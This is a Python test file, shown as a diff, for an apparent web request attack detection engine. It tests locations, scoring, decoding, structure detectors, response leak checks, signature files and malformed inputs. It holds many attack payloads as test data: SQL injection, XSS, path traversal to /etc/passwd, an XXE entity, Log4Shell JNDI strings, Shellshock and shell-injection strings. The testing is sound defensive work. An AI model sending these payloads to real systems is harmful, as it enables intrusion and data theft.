@@ -1,0 +1,295 @@
+"""Engine behaviour beyond the labelled cases: locations, scoring, decoding, structure
+detectors, responses, signature files, and hostile inputs that must not blow up."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import sys
+import zlib
+from pathlib import Path
+
+import pytest
+import yaml
+
+from addon.protocol import RequestMessage, ResponseMessage
+from node.detect import decode
+from node.detect.engine import Detection, Engine, _to_bytes
+from node.detect.log4j import detect_log4j
+from node.detect.request import MAX_FIELDS, extract
+from node.detect.shell import detect_shell
+from node.detect.signatures import SignatureError, SignatureSet, parse_signatures
+from node.detect.sqli import detect_sqli
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "scripts"))
+from bench_detect import hostile_suite  # noqa: E402
+
+CASES = Path(__file__).parent / "cases"
+HOSTILE = hostile_suite()  # built once: some cases are large
+
+
+@pytest.fixture(scope="module")
+def engine() -> Engine:
+    return Engine()
+
+
+def req(target: str = "/", headers: list | None = None, body: bytes = b"", ctype: str | None = None) -> RequestMessage:
+    h = [(b"Host", b"app.example")] + (headers or [])
+    if ctype:
+        h.append((b"Content-Type", ctype.encode()))
+    return RequestMessage("POST" if body else "GET", target, h, body)
+
+
+# ---------------------------------------------------------------------------- interface
+
+
+def test_detection_interface(engine: Engine) -> None:
+    det = engine.analyze_request(req("/items?id=1%20union%20select%20password%20from%20users"))
+    assert isinstance(det, Detection) and det.is_attack and det.score >= det.threshold
+    a = det.attacks[0]
+    assert (a.type, a.location) == ("sqli", "query.id")
+    assert a.rule_id.startswith("sqli.") and 0 < len(a.excerpt) <= 120 and a.score > 0
+    clean = engine.analyze_request(req("/items?id=42"))
+    assert (clean.is_attack, clean.score, clean.attacks) == (False, 0, [])
+
+
+@pytest.mark.parametrize(
+    ("msg", "location"),
+    [
+        (req("/a?id=%27%20or%201%3D1--"), "query.id"),
+        (req("/a", body=b'{"user": {"name": "<script>alert(1)</script>"}}', ctype="application/json"), "json.user.name"),
+        (req("/a", headers=[(b"User-Agent", b"() { :; }; /bin/id")]), "header.user-agent"),
+        (req("/a", body=b"x=..%2f..%2f..%2fetc%2fpasswd", ctype="application/x-www-form-urlencoded"), "body.form.x"),
+        (req("/a", body=b'--B\r\nContent-Disposition: form-data; name="file"; filename="../../../etc/passwd"\r\n\r\nx\r\n--B--\r\n', ctype="multipart/form-data; boundary=B"), "multipart.file.filename"),
+        (req("/a", body=b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', ctype="application/xml"), "xml.doctype"),
+        (req("/../../../etc/passwd"), "path"),
+        (req("/", headers=[(b"Cookie", b"a=1; sid=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D")]), "cookie.sid"),
+        (req("/a", body=b"<r><q>1 union select password from users</q></r>", ctype="text/xml"), "xml.r.q"),
+        (req("/a?user[$ne]=1"), "query.user[$ne]"),
+    ],
+)
+def test_locations(engine: Engine, msg: RequestMessage, location: str) -> None:
+    det = engine.analyze_request(msg)
+    assert det.is_attack
+    assert location in {a.location for a in det.attacks}, [a.location for a in det.attacks]
+
+
+# ---------------------------------------------------------------------------- scoring
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "<em>bold</em> claim",  # a harmless tag: weak alone
+        "see ../README.md",  # one step up: weak alone
+        "javascript:void(0)",  # the most common href there is
+        "http://localhost:3000/callback",  # internal address: weak alone
+        "<!DOCTYPE html>",
+        "{% if user %}hello{% endif %}",
+    ],
+)
+def test_one_weak_signal_does_not_block(engine: Engine, value: str) -> None:
+    det = engine.analyze_value(value)
+    assert not det.is_attack, det
+
+
+def test_weak_signals_in_one_value_add_up(engine: Engine) -> None:
+    # js-uri (weak) + a script sink (weak) in the same value
+    assert engine.analyze_value("javascript:alert(document.cookie)").is_attack
+    # the same weak signals spread over two values do not
+    msg = req("/a?x=javascript%3Avoid(0)&y=%3Cem%3Ehi%3C%2Fem%3E")
+    assert not engine.analyze_request(msg).is_attack
+
+
+def test_threshold_is_configurable() -> None:
+    strict = Engine(threshold=5)
+    assert strict.analyze_value("see ../README.md").is_attack
+
+
+# ---------------------------------------------------------------------------- decoding
+
+
+@pytest.mark.parametrize(
+    ("raw", "expected"),
+    [
+        ("%253Cscript%253E", "<script>"),  # double URL
+        ("%u003Cscript%u003E", "<script>"),  # IIS %u
+        ("&#x3c;script&#62;", "<script>"),  # HTML entities
+        ("\\u003cscript\\x3e", "<script>"),  # JS escapes
+        ("%c0%ae%c0%ae%c0%af", "../"),  # overlong UTF-8
+        ("%e4%b8%ad%e6%96%87", "中文"),  # real UTF-8 stays text
+        ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<script>alert(1)</script>"),  # base64
+        ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "<script>alert(1)</script>"),  # base64url, no padding
+        ('{"id":"MSBhbmQgMT0y"}', "1 and 1=2"),  # base64 inside JSON inside a value
+        ("0x2e0x2e0x2fetc", "../etc"),  # fuzzers' text hex
+    ],
+)
+def test_variants_decode(raw: str, expected: str) -> None:
+    assert expected in decode.variants(raw)
+
+
+def test_variants_are_bounded() -> None:
+    deep = "%25" * 50 + "3C"
+    forms = decode.variants(deep)
+    assert len(forms) <= decode.MAX_VARIANTS
+    assert decode.b64_decode("not base64 at all!") is None
+    assert decode.b64_decode("////////") is None  # decodes to binary, not text
+
+
+# ---------------------------------------------------------------------------- structure
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["' or 1=1--", "admin'--", "1 or 1=1", "-1 union select 1,2", "1; drop table users", "' or 'a'='a",
+     "1 order by 3--", "')) or ((1=1", "'; exec xp_cmdshell 'dir'--", "x' and sleep(5)#", " AND 1=1"],
+)
+def test_sqli_structure_detects(value: str) -> None:
+    assert detect_sqli(value), value
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["O'Reilly", "union was a great select", "1 or 2 apples", "it's -- great", "Select all",
+     "please select a color from the list", "Bob's or Alice's", "5'10\"", "rock and roll",
+     "/rc-select@14.5.2/lib/index.js", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", '"Not:A-Brand";v="99"'],
+)
+def test_sqli_structure_passes_prose(value: str) -> None:
+    assert detect_sqli(value) is None, value
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["; cat /etc/passwd", "| id", "`whoami`", "$(id)", "a;c''at /etc/passwd", ";cat${IFS}/etc/passwd",
+     "\nls -la", "&& ping -c 1 10.0.0.1", "; /usr/bin/id", "x; then sleep 5; fi"],
+)
+def test_shell_structure_detects(value: str) -> None:
+    assert detect_shell(value), value
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["Tom & Jerry", "cats & dogs; cat lovers too", "rock|paper", "mammal;cat;ears", "ls 300 lexus",
+     "Oxygen & Sleep Associates", "Use the `ls` command to list files", "```python\nprint(1)\n```"],
+)
+def test_shell_structure_passes_prose(value: str) -> None:
+    assert detect_shell(value) is None, value
+
+
+def test_shell_newlines_are_text_in_bodies() -> None:
+    assert detect_shell("line one\nls -la", "query")
+    assert detect_shell("line one\nls -la", "json") is None
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["${jndi:ldap://x/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+     "${${env:X:-j}ndi${env:X:-:}ldap://x/a}"],
+)
+def test_log4j_detects(value: str) -> None:
+    assert detect_log4j(value), value
+
+
+def test_log4j_passes_templates() -> None:
+    assert detect_log4j("Hello ${name}, total ${amount}") is None
+
+
+# ---------------------------------------------------------------------------- responses
+
+
+def test_response_leaks(engine: Engine) -> None:
+    sql = ResponseMessage(500, [(b"Content-Type", b"text/html")], b"<b>You have an error in your SQL syntax</b> near ''' at line 1")
+    assert {a.type for a in engine.analyze_response(sql).attacks} == {"sqli"}
+    passwd = ResponseMessage(200, [], b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin")
+    assert "ptrav" in {a.type for a in engine.analyze_response(passwd).attacks}
+    gz = ResponseMessage(500, [(b"Content-Encoding", b"gzip")], gzip.compress(b'Traceback (most recent call last):\n  File "x.py"'))
+    assert engine.analyze_response(gz).is_attack
+    page = ResponseMessage(200, [(b"Content-Type", b"text/html")], b"<html><body><h1>Welcome</h1><p>Select a product.</p></body></html>")
+    assert not engine.analyze_response(page).is_attack
+    assert not engine.analyze_response(ResponseMessage(204, [])).is_attack
+
+
+# ---------------------------------------------------------------------------- signature files
+
+
+def test_signature_file_errors_are_clear() -> None:
+    good = {"id": "a", "type": "xss", "score": 10, "pattern": "x"}
+    with pytest.raises(SignatureError, match="duplicate ids"):
+        parse_signatures([good, dict(good)], "t.yaml")
+    with pytest.raises(SignatureError, match="unknown type"):
+        parse_signatures([dict(good, type="nope")], "t.yaml")
+    with pytest.raises(SignatureError, match="unknown detector"):
+        parse_signatures([dict(good, detector="nope")], "t.yaml")
+    with pytest.raises(SignatureError, match=r"t\.yaml\[0\]"):
+        parse_signatures([{"id": "x"}], "t.yaml")
+    with pytest.raises(SignatureError, match="signature bad"):
+        SignatureSet(parse_signatures([dict(good, id="bad", pattern="(unclosed")], "t.yaml"))
+
+
+def test_signatures_match_wherever_the_value_sits(engine: Engine) -> None:
+    """hyperscan 0.9.1 can miss some bounded-repeat patterns when the match starts past ~16
+    bytes; every signature that matches a case at the start must match it after a prefix."""
+    attacks = yaml.safe_load((CASES / "attacks.yaml").read_text("utf-8"))
+    sigs = engine.request_sigs.signatures
+    lost = []
+    for section in attacks.values():
+        for item in section:
+            value = item["value"] if isinstance(item, dict) else item
+            for form in decode.variants(value):
+                near = engine.request_sigs.scan(_to_bytes("\n" + form + "\n"))
+                far = engine.request_sigs.scan(_to_bytes("\n" + "A" * 64 + "\n" + form + "\n"))
+                lost += [(sigs[i].id, form) for i in near - far]
+    assert not lost, lost[:10]
+
+
+# ---------------------------------------------------------------------------- hostile input
+
+
+@pytest.mark.parametrize("name", list(HOSTILE))
+def test_hostile_inputs_are_judged_not_fatal(engine: Engine, name: str) -> None:
+    det = engine.analyze_request(HOSTILE[name])
+    assert isinstance(det, Detection)
+
+
+def test_hostile_attack_inputs_still_found(engine: Engine) -> None:
+    suite = HOSTILE
+    for name in ("deep-url-encoding", "form-1mb-dots", "xml-billion-laughs"):
+        assert engine.analyze_request(suite[name]).is_attack, name
+
+
+def test_field_count_is_bounded() -> None:
+    msg = req("/s?" + "&".join(f"p{i}=v{i}" for i in range(5000)))
+    sink = extract(msg)
+    assert len(sink.fields) == MAX_FIELDS and sink.dropped > 0
+
+
+@pytest.mark.parametrize(
+    "msg",
+    [
+        req("/", body=b"\x1f\x8b\x08garbage", ctype="application/json", headers=[(b"Content-Encoding", b"gzip")]),
+        req("/", body=zlib.compress(b'{"a": "<script>alert(1)</script>"}'), ctype="application/json", headers=[(b"Content-Encoding", b"deflate")]),
+        req("/", body=b'{"a": [1, 2', ctype="application/json"),
+        req("/", body=b"--B\r\nContent-Disposition: form-data\r\n\r\n", ctype="multipart/form-data; boundary=B"),
+        req("/", body=b"--B\r\nno headers at all", ctype="multipart/form-data"),
+        req("/", body=b"<a><b attr='x'>text</a></b><<>>", ctype="application/xml"),
+        req("/", body=b"\xff\xfe\x00\x00 binary \x00\x01", ctype="application/octet-stream"),
+        req("/%ff%fe%c0?%zz=%&&==&=x", headers=[(b"X-Bad", b"\xff\xfe\xfd")]),
+        req("/", headers=[(b"Cookie", b";;;=;a=%;b")]),
+        RequestMessage("GET", "", [], b""),
+    ],
+)
+def test_malformed_requests_never_raise(engine: Engine, msg: RequestMessage) -> None:
+    assert isinstance(engine.analyze_request(msg), Detection)
+
+
+def test_deflate_body_is_judged(engine: Engine) -> None:
+    msg = req("/", body=zlib.compress(b'{"a": "<script>alert(1)</script>"}'), ctype="application/json", headers=[(b"Content-Encoding", b"deflate")])
+    assert engine.analyze_request(msg).is_attack
+
+
+def test_json_nesting_depth_bounded(engine: Engine) -> None:
+    deep = json.dumps({"a": "x"})
+    for _ in range(100):
+        deep = '{"k": ' + deep + "}"
+    det = engine.analyze_request(req("/", body=deep.encode(), ctype="application/json"))
+    assert not det.is_attack
